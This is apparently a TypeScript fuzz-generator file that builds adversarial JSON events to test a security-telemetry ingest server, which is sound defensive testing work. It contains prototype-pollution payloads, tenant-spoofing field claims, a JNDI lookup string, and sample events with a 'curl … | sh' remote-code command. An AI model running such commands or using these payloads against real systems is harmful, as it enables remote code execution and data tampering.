// Generators for the ingest fuzzer (issue 19): adversarial JSON shaped like what an enrolled agent can send.
// Every generated case prints as a short description (fc.toStringMethod), never as megabytes of JSON, so a
// shrunk counterexample is readable; `text` builds its exact bytes.
import fc from 'fast-check';
import { EVENT_CATEGORIES, type EventCategory } from '../../src/ingest/event-contract.ts';

/** Sizes the generators may reach; CI and `npm run fuzz` use the same ones. */
export interface FuzzLimits {
  /** Deepest nesting of one generated value (objects/arrays). */
  maxDepth: number;
  /** Most keys of one generated object. */
  maxWidth: number;
  /** Longest generated string, in UTF-16 code units. */
  maxStringLength: number;
  /** Most events in one generated request body. */
  maxEvents: number;
}

export const DEFAULT_LIMITS: FuzzLimits = { maxDepth: 25_000, maxWidth: 20_000, maxStringLength: 256 * 1024, maxEvents: 8 };

/** Placeholders filled in when a case is sent: the canary tenant it must never reach, and a fresh sequence number. */
export const CANARY_NAMESPACE = '@@canary_namespace@@';
export const CANARY_AGENT_ID = '@@canary_agent@@';
const SEQ = '@@seq@@';

/** What the placeholders stand for when a case is materialised. */
export interface Substitutions {
  canaryNamespace: string;
  canaryAgentId: string;
  /** A fresh sequence number per event: events then never collide with earlier runs' ids. */
  nextSeq(): number;
}

/** The marker a prototype-pollution payload tries to plant on a shared prototype. */
export const POLLUTION_MARKER = 'nyx_fuzz_polluted';

/**
 * A JSON fragment written verbatim into the event's text: nestings too deep for a JS serialiser, number literals
 * JSON.stringify cannot spell (-0, 1e309, 30-digit integers), huge strings. Prints as its label.
 */
export class RawJson {
  constructor(
    readonly text: string,
    readonly label: string,
  ) {}
  [fc.toStringMethod](): string {
    return this.label;
  }
}

/** Builds an object whose keys are all own data properties, "__proto__" included (as JSON.parse would). */
export function ownObject(entries: Iterable<readonly [string, unknown]>): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (const [key, value] of entries) Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  return object;
}

/** JSON text of a generated value: RawJson fragments verbatim, own "__proto__" keys kept, lone surrogates escaped. */
export function jsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.keys(value)
      .map((k) => `${JSON.stringify(k)}:${jsonText((value as Record<string, unknown>)[k])}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

// ---------------------------------------------------------------------------------------------
// Leaves: strings, numbers, deep and wide structures.

/** One of each Unicode class that breaks naive code: NUL, lone surrogates, bidi overrides, BOM, line separators, astral, escapes, templates. */
const SPECIAL_STRINGS = [
  '\u0000', '\ud800', '\udfff', '\ud83d', '\ude00', '\u202e', '\u2066', '\u200b', '\ufeff', '\u2028', '\u2029', '\ud83d\ude00', '\u{10ffff}',
  '\u001b[2J\u001b[31m', '\r\n', '\n', '\t', '\\', '"', "'", 'e\u0301', '\uffff', '\ufffe', '{{_source}}', '{{{ctx}}}', '%{greedydata}',
  '${jndi:ldap://x}', '..', '.', '*', '?', 'null', 'true', '0', '', ' ', '__proto__', 'constructor', 'ioc:malicious',
];

const specialString = fc.constantFrom(...SPECIAL_STRINGS);

/** A long run of one (possibly hostile) unit: long enough to pass per-field caps and reach the body limit. */
function hugeString(limits: FuzzLimits): fc.Arbitrary<RawJson> {
  return fc
    .record({ unit: fc.constantFrom('x', '\u0000', '\ud800', '\ud83d\ude00', '\u202e', 'é', '{"a":1}', '\\'), length: fc.integer({ min: 1024, max: limits.maxStringLength }) })
    .map(({ unit, length }) => new RawJson(JSON.stringify(unit.repeat(Math.max(1, Math.floor(length / unit.length)))), `${JSON.stringify(unit)}×${length} (string)`));
}

export function adversarialString(limits: FuzzLimits): fc.Arbitrary<string | RawJson> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
    { weight: 3, arbitrary: fc.string({ unit: specialString, maxLength: 12 }) },
    { weight: 2, arbitrary: specialString },
    { weight: 1, arbitrary: hugeString(limits) },
  );
}

/** Number literals at the edges, as JSON text (JSON.stringify would turn -0 into 0 and cannot write 1e309). */
const NUMBER_LITERALS = ['-0', '0.0', '1e308', '-1e308', '1e309', '-1e309', '5e-324', '1e-400', '9007199254740993', '-9007199254740993', '123456789012345678901234567890', '18446744073709551616', '1E+2', '0.1e-7'];

/** Timestamps at the edges of what ISO 8601, JavaScript and Elasticsearch's date type can each represent. */
export const edgeTimestamp: fc.Arbitrary<string> = fc.constantFrom(
  '0001-01-01T00:00:00Z', '0000-01-01T00:00:00Z', '1969-12-31T23:59:59.999Z', '1970-01-01T00:00:00Z', '9999-12-31T23:59:59.999Z',
  '2026-03-01T12:00:00+14:00', '2026-03-01T12:00:00-12:00', '2026-03-01T12:00:00.123456789Z', '2024-02-29T00:00:00Z', '2026-02-29T00:00:00Z',
  '2026-03-01T24:00:00Z', '2026-12-31T23:59:60Z', '+275760-09-13T00:00:00Z', '2026-03-01T12:00:00', '2026-03-01',
);

export const edgeNumber: fc.Arbitrary<number | RawJson> = fc.oneof(
  fc.constantFrom(...NUMBER_LITERALS).map((n) => new RawJson(n, n)),
  fc.constantFrom(0, -1, 1, 65535, 65536, -2147483649, Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER, Number.MAX_VALUE, Number.MIN_VALUE, 0.5),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** One value nested `depth` levels deep, built as text (a JS serialiser would overflow its stack). */
export function deepValue(limits: FuzzLimits): fc.Arbitrary<RawJson> {
  const depth = fc.oneof(fc.integer({ min: 2, max: 64 }), fc.integer({ min: 64, max: limits.maxDepth }), fc.constantFrom(1_000, 5_000, 10_000, 20_000).filter((d) => d <= limits.maxDepth));
  return fc.record({ depth, shape: fc.constantFrom('object', 'array', 'mixed', 'proto'), leaf: fc.constantFrom('0', '"x"', 'null', '{}') }).map(({ depth, shape, leaf }) => {
    const [open, close] =
      shape === 'object' ? ['{"a":', '}'] : shape === 'array' ? ['[', ']'] : shape === 'mixed' ? ['[{"a":', '}]'] : [`{"__proto__":`, '}'];
    return new RawJson(open.repeat(depth) + leaf + close.repeat(depth), `${open}…${leaf}…${close} nested ${depth} deep`);
  });
}

/** One object with many keys, built as text: distinct names, dotted names, or reserved names among plain ones. */
export function wideValue(limits: FuzzLimits): fc.Arbitrary<RawJson> {
  return fc.record({ width: fc.integer({ min: 50, max: limits.maxWidth }), naming: fc.constantFrom('plain', 'dotted', 'reserved') }).map(({ width, naming }) => {
    const parts: string[] = new Array(width);
    for (let i = 0; i < width; i++) {
      const key = naming === 'plain' ? `f${i}` : naming === 'dotted' ? `f${i}.g${i % 7}.h` : i % 100 === 0 ? ['__proto__', 'constructor', 'data_stream.namespace', 'agent.id'][(i / 100) % 4]! : `k${i}`;
      parts[i] = `${JSON.stringify(key)}:${i % 3 === 0 ? `"v${i}"` : i}`;
    }
    return new RawJson(`{${parts.join(',')}}`, `{…${width} ${naming} keys…}`);
  });
}

// ---------------------------------------------------------------------------------------------
// Keys: reserved names in every spelling.

/** Keys that reach a prototype when copied naively, in every spelling a path parser may split. */
const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', '__proto__.x', 'constructor.prototype', `a.__proto__.${POLLUTION_MARKER}`, `constructor.prototype.${POLLUTION_MARKER}`, `__proto__.${POLLUTION_MARKER}`, 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'];

/** Fields the server owns: an agent must not be able to set them, nested or dotted. */
export const SERVER_OWNED_KEYS = ['data_stream.namespace', 'data_stream.dataset', 'data_stream.type', 'agent.id', 'agent.name', 'agent.type', '_index', '_id', '_routing', '_source', 'event.ingested', 'tags', 'threat.indicator.ip', 'threat.enrichments'];

const otherKeys = ['ts', 'category', 'seq', '@timestamp', 'message', 'event.original', 'ctx', '_ingest', 'a.b', '.', '..', 'a..b', '', ' ', 'a.', '.a', 'ÄÖ', '\u0000', '\ud800', 'x'.repeat(300)];

export const reservedKey = fc.constantFrom(...PROTOTYPE_KEYS, ...SERVER_OWNED_KEYS, ...otherKeys);

export const anyKey: fc.Arbitrary<string> = fc.oneof({ weight: 3, arbitrary: reservedKey }, { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) });

/** Values a reserved key is given: another tenant, a pollution payload, or plain junk. */
function reservedValue(limits: FuzzLimits): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(CANARY_NAMESPACE, CANARY_AGENT_ID, 'default', `logs-endpoint-${CANARY_NAMESPACE}`, `ioc:${CANARY_NAMESPACE}`),
    fc.constant(ownObject([[POLLUTION_MARKER, 'yes'], ['revoked_at', '2026-01-01T00:00:00Z']])),
    fc.constant(ownObject([['namespace', CANARY_NAMESPACE], ['id', CANARY_AGENT_ID]])),
    fc.constant(ownObject([['prototype', ownObject([[POLLUTION_MARKER, 'yes']])]])),
    fc.constant([CANARY_NAMESPACE, `ioc:${CANARY_NAMESPACE}`]),
    leafValue(limits),
  );
}

function leafValue(limits: FuzzLimits): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: adversarialString(limits) },
    { weight: 2, arbitrary: edgeNumber },
    { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
    { weight: 1, arbitrary: deepValue(limits) },
    { weight: 1, arbitrary: wideValue(limits) },
  );
}

/** Any JSON value, small in shape, adversarial at the leaves and the keys. */
export function adversarialJson(limits: FuzzLimits): fc.Arbitrary<unknown> {
  const { value } = fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', maxDepth: 3 },
      leafValue(limits),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.array(fc.tuple(anyKey, tie('value')), { maxLength: 5 }).map((entries) => ownObject(entries)),
    ),
  }));
  return value;
}

// ---------------------------------------------------------------------------------------------
// Events: a valid-looking event of every category, mutated field by field.

const WINDOWS_RECORD = {
  System: {
    Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
    EventID: 1,
    TimeCreated: { '#attributes': { SystemTime: '2026-03-01T12:00:00.000Z' } },
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: 'ws-01.corp.example.com',
  },
  EventData: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami', User: 'CORP\\alice', ProcessId: 4242, ParentImage: 'C:\\Windows\\explorer.exe' },
};

const COWRIE_RECORD = {
  eventid: 'cowrie.command.input',
  input: 'uname -a',
  message: 'CMD: uname -a',
  sensor: 'hp-01',
  timestamp: '2026-03-01T12:00:00.000000Z',
  src_ip: '203.0.113.7',
  session: '7f3a9c2e41d8',
};

const COMMON = { ts: '2026-03-01T12:00:00Z', host: 'host-a', user: 'alice', ip: '10.0.0.5', severity: 3 };

/** One valid event per category, as `nyx ship` would send it (before its seq is filled in). */
export const EVENT_TEMPLATES: Record<EventCategory, Record<string, unknown>> = {
  telemetry: { ...COMMON, category: 'telemetry', cpu: { total: 37.5 }, ram: { used_pct: 61.2 }, net: { rx_bytes: 1823 } },
  process: { ...COMMON, category: 'process', pid: 4242, ppid: 1, name: 'bash', path: '/usr/bin/bash', cmd: 'bash -i', processes: [{ pid: 1, name: 'init' }] },
  user_activity: { ...COMMON, category: 'user_activity', action: 'login' },
  commandline: { ...COMMON, category: 'commandline', cmd: 'curl http://198.51.100.7/x.sh | sh', parent: 'bash', pid: 100 },
  service: { ...COMMON, category: 'service', service_name: 'sshd', action: 'start' },
  file_activity: { ...COMMON, category: 'file_activity', action: 'download', path: '/tmp/x.sh', sha256: 'a'.repeat(64), url: 'http://198.51.100.7/x.sh' },
  network: { ...COMMON, category: 'network', dst_ip: '198.51.100.7', dst_port: 443, domain: 'example.com', transport: 'tcp' },
  detection: { ...COMMON, category: 'detection', name: 'EICAR', rule: 'test-rule' },
  software: { ...COMMON, category: 'software', package: { name: 'openssl', version: '3.0.2', architecture: 'amd64' } },
  windows_event: { ...COMMON, category: 'windows_event', raw: { Event: WINDOWS_RECORD } },
  syslog: { ...COMMON, category: 'syslog', raw: '<38>Mar  3 07:16:03 fw-edge sshd[1102]: Failed password for admin from 198.51.100.9 port 61022 ssh2' },
  cowrie: { ...COMMON, category: 'cowrie', raw: COWRIE_RECORD },
};

/** Every dotted path to a leaf or object of a template: the fields a mutation may hit. */
function fieldPaths(value: unknown, prefix: string[] = [], out: string[][] = []): string[][] {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return out;
  for (const [k, v] of Object.entries(value)) {
    out.push([...prefix, k]);
    fieldPaths(v, [...prefix, k], out);
  }
  return out;
}

/** Sets `value` at `path` in a fresh copy of the event's own objects (own properties only: "__proto__" stays a key). */
function setPath(target: Record<string, unknown>, path: readonly string[], value: unknown): void {
  let node = target;
  for (let i = 0; i < path.length - 1; i++) {
    const key = path[i]!;
    const next = Object.prototype.hasOwnProperty.call(node, key) ? node[key] : undefined;
    const child = next !== null && typeof next === 'object' && !Array.isArray(next) && !(next instanceof RawJson) ? ownObject(Object.entries(next)) : {};
    Object.defineProperty(node, key, { value: child, enumerable: true, writable: true, configurable: true });
    node = child;
  }
  Object.defineProperty(node, path[path.length - 1]!, { value, enumerable: true, writable: true, configurable: true });
}

function deepCopy(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(deepCopy);
  if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) return ownObject(Object.entries(value).map(([k, v]) => [k, deepCopy(v)] as const));
  return value;
}

export interface Mutation {
  path: string[];
  value: unknown;
}

function describeValue(value: unknown): string {
  const text = value instanceof RawJson ? value.label : fc.stringify(value);
  return text.length > 160 ? `${text.slice(0, 157)}…` : text;
}

function describeMutations(mutations: Mutation[]): string {
  return mutations.map((m) => `${m.path.map((p) => JSON.stringify(p)).join(' → ')} = ${describeValue(m.value)}`).join('; ');
}

/** One event of a request: its JSON text (with placeholders), or a line that is no JSON at all. */
export type EventCase =
  | { kind: 'event'; category: EventCategory | 'none'; value: unknown; summary: string; [fc.toStringMethod](): string }
  | { kind: 'garbage'; bytes: Buffer; summary: string; [fc.toStringMethod](): string };

function eventCase(category: EventCategory | 'none', value: unknown, summary: string): EventCase {
  return { kind: 'event', category, value, summary, [fc.toStringMethod]: () => summary };
}

function mutationArb(base: Record<string, unknown>, limits: FuzzLimits): fc.Arbitrary<Mutation> {
  const existing = fieldPaths(base);
  const path = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...existing) },
    { weight: 2, arbitrary: reservedKey.map((k) => [k]) },
    { weight: 1, arbitrary: reservedKey.map((k) => k.split('.')) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...existing), reservedKey).map(([p, k]) => [...p, k]) },
  );
  return fc.oneof(
    { weight: 1, arbitrary: fc.record({ path: fc.constant<string[]>(['ts']), value: edgeTimestamp }) },
    { weight: 3, arbitrary: fc.record({ path, value: leafValue(limits) }) },
    { weight: 2, arbitrary: fc.record({ path, value: reservedValue(limits) }) },
    { weight: 1, arbitrary: fc.record({ path, value: adversarialJson(limits) }) },
  );
}

/** A valid event of `category` with 0-3 fields replaced, added or nested under reserved names. */
export function mutatedEvent(category: EventCategory, limits: FuzzLimits): fc.Arbitrary<EventCase> {
  const base = EVENT_TEMPLATES[category];
  return fc.array(mutationArb(base, limits), { maxLength: 3 }).map((mutations) => {
    const value = deepCopy({ ...base, seq: new RawJson(SEQ, 'seq') }) as Record<string, unknown>;
    for (const m of mutations) setPath(value, m.path, m.value);
    return eventCase(category, value, mutations.length ? `${category} event with ${describeMutations(mutations)}` : `${category} event (valid)`);
  });
}

/** A Cowrie event whose `raw` is the record's JSON *text*: the server parses it, so its keys are data too. */
export function cowrieTextEvent(limits: FuzzLimits): fc.Arbitrary<EventCase> {
  return fc.array(mutationArb(COWRIE_RECORD, limits), { minLength: 1, maxLength: 3 }).map((mutations) => {
    const record = deepCopy(COWRIE_RECORD) as Record<string, unknown>;
    for (const m of mutations) setPath(record, m.path, m.value);
    const value = deepCopy({ ...EVENT_TEMPLATES.cowrie, seq: new RawJson(SEQ, 'seq') }) as Record<string, unknown>;
    value.raw = new RawJson(JSON.stringify(jsonText(record)), 'raw text');
    return eventCase('cowrie', value, `cowrie event, raw as JSON text with ${describeMutations(mutations)}`);
  });
}

/**
 * A valid event claiming the canary tenant in a server-owned field (`data_stream.namespace`, `agent.id`), spelled
 * dotted or nested, at the top level or inside a Cowrie record (as an object or as its JSON text).
 */
export const tenantClaimEvent: fc.Arbitrary<EventCase> = fc
  .record({
    category: fc.constantFrom<EventCategory>('commandline', 'network', 'process', 'cowrie'),
    field: fc.constantFrom({ path: 'data_stream.namespace', claimed: CANARY_NAMESPACE }, { path: 'agent.id', claimed: CANARY_AGENT_ID }),
    spelling: fc.constantFrom('dotted', 'nested'),
    inRecord: fc.constantFrom('object', 'text'),
  })
  .map(({ category, field: { path, claimed }, spelling, inRecord }) => {
    const claim = (target: Record<string, unknown>): void => setPath(target, spelling === 'dotted' ? [path] : path.split('.'), claimed);
    const value = deepCopy({ ...EVENT_TEMPLATES[category], seq: new RawJson(SEQ, 'seq') }) as Record<string, unknown>;
    let where = 'at the top level';
    if (category === 'cowrie') {
      const record = deepCopy(COWRIE_RECORD) as Record<string, unknown>;
      claim(record);
      value.raw = inRecord === 'object' ? record : new RawJson(JSON.stringify(jsonText(record)), 'raw text');
      where = `in raw (${inRecord === 'object' ? 'an object' : 'JSON text'})`;
    } else claim(value);
    const summary = `${category} event claiming ${spelling} ${path} = ${claimed} ${where}`;
    return eventCase(category, value, summary);
  });

/** Pollution payloads written as JSON text where a pipeline parses text into objects (json, kv processors). */
export const pollutionText = fc.constantFrom(
  `{"__proto__":{"${POLLUTION_MARKER}":"yes","revoked_at":"2026-01-01T00:00:00Z"}}`,
  `{"constructor":{"prototype":{"${POLLUTION_MARKER}":"yes"}}}`,
  `{"a":{"__proto__":{"${POLLUTION_MARKER}":"yes"}}}`,
  `{"__proto__.${POLLUTION_MARKER}":"yes","constructor.prototype.${POLLUTION_MARKER}":"yes"}`,
  `__proto__=${POLLUTION_MARKER} constructor.prototype.${POLLUTION_MARKER}=yes __proto__.${POLLUTION_MARKER}=yes`,
  `{"eventid":"cowrie.command.input","input":"id","__proto__":{"${POLLUTION_MARKER}":"yes"}}`,
);

/** A line that is not JSON: the server rejects it alone, naming the parse error. */
export const garbageLine: fc.Arbitrary<EventCase> = fc
  .oneof(
    fc.constantFrom('{"ts": not json}', '{', '}', '[1,', 'nul', '"unterminated', '{"a":1}{"b":2}').map((t) => Buffer.from(t)),
    fc.constant(Buffer.from([0xff, 0xfe, 0x00, 0xc0, 0x80, 0x7b])),
    fc.integer({ min: 2, max: 5_000 }).map((n) => Buffer.from('{"a":'.repeat(n))),
  )
  .map((bytes) => ({ kind: 'garbage', bytes, summary: `garbage line ${describeValue(bytes.toString('latin1'))}`, [fc.toStringMethod]: () => `garbage line ${describeValue(bytes.toString('latin1'))}` }));

/** Any event an agent could send, weighted towards valid-looking ones so the deeper layers are reached. */
export function anyEvent(limits: FuzzLimits): fc.Arbitrary<EventCase> {
  return fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...EVENT_CATEGORIES).chain((c) => mutatedEvent(c, limits)) },
    { weight: 2, arbitrary: cowrieTextEvent(limits) },
    { weight: 1, arbitrary: tenantClaimEvent },
    {
      weight: 1,
      arbitrary: pollutionText.map((t) => {
        const value = deepCopy({ ...EVENT_TEMPLATES.cowrie, seq: new RawJson(SEQ, 'seq'), raw: t }) as Record<string, unknown>;
        return eventCase('cowrie', value, `cowrie event with raw ${JSON.stringify(t)}`);
      }),
    },
    {
      weight: 1,
      arbitrary: pollutionText.map((t) => eventCase('syslog', deepCopy({ ...EVENT_TEMPLATES.syslog, seq: new RawJson(SEQ, 'seq'), raw: `<13>Mar  3 07:16:03 h app: ${t}` }), `syslog event carrying ${JSON.stringify(t)}`)),
    },
    { weight: 1, arbitrary: adversarialJson(limits).map((v) => eventCase('none', v, `arbitrary value ${describeValue(v)}`)) },
  );
}

/** Fills the placeholders of one event's text. */
export function materialise(text: string, subst: Substitutions): string {
  return text.replaceAll(CANARY_NAMESPACE, subst.canaryNamespace).replaceAll(CANARY_AGENT_ID, subst.canaryAgentId).replace(/@@seq@@/g, () => String(subst.nextSeq()));
}

/** The bytes of one event (a garbage line as it is). */
export function eventBytes(event: EventCase, subst: Substitutions): Buffer {
  return event.kind === 'garbage' ? event.bytes : Buffer.from(materialise(jsonText(event.value), subst));
}

// ---------------------------------------------------------------------------------------------
// Request bodies.

export interface BodyCase {
  events: EventCase[];
  form: 'single' | 'array' | 'ndjson';
  crlf: boolean;
  gzip: boolean;
  [fc.toStringMethod](): string;
}

function bodyCase(events: EventCase[], form: BodyCase['form'], crlf: boolean, gzip: boolean): BodyCase {
  const summary = (): string =>
    `${form}${form === 'ndjson' && crlf ? ' (CRLF)' : ''}${gzip ? ' gzip' : ''} body of ${events.length} event(s):\n${events.map((e, i) => `  [${i}] ${e.summary}`).join('\n')}`;
  return { events, form, crlf, gzip, [fc.toStringMethod]: summary };
}

/** A request body: one event, a JSON array, or NDJSON (which alone may carry garbage lines), maybe gzipped. */
export function requestBody(limits: FuzzLimits): fc.Arbitrary<BodyCase> {
  const event = anyEvent(limits);
  const valid = fc.constantFrom(...EVENT_CATEGORIES).chain((c) => mutatedEvent(c, limits));
  return fc.oneof(
    fc.record({ e: event, gzip: fc.boolean() }).map(({ e, gzip }) => bodyCase([e], 'single', false, gzip)),
    fc.record({ es: fc.array(event, { minLength: 1, maxLength: limits.maxEvents }), gzip: fc.boolean() }).map(({ es, gzip }) => bodyCase(es, 'array', false, gzip)),
    fc
      // NDJSON's first line is an object event: a body starting with "[" is read as one JSON array.
      .record({ first: valid, rest: fc.array(fc.oneof({ weight: 4, arbitrary: event }, { weight: 1, arbitrary: garbageLine }), { minLength: 1, maxLength: limits.maxEvents - 1 }), crlf: fc.boolean(), gzip: fc.boolean() })
      .map(({ first, rest, crlf, gzip }) => bodyCase([first, ...rest], 'ndjson', crlf, gzip)),
  );
}

/** How many events the server must account for: a single event that is itself a JSON array is read as that array. */
export function eventsInBody(body: BodyCase): number {
  const only = body.events[0];
  if (body.form === 'single' && only?.kind === 'event' && Array.isArray(only.value)) return only.value.length;
  return body.events.length;
}

/** The bytes a body case sends (before gzip): events joined as its form says. */
export function bodyBytes(body: BodyCase, subst: Substitutions): Buffer {
  const parts = body.events.map((e) => eventBytes(e, subst));
  if (body.form === 'single') return parts[0]!;
  if (body.form === 'array') return Buffer.concat([Buffer.from('['), ...parts.flatMap((p, i) => (i ? [Buffer.from(','), p] : [p])), Buffer.from(']')]);
  const newline = Buffer.from(body.crlf ? '\r\n' : '\n');
  return Buffer.concat(parts.flatMap((p) => [p, newline]));
}
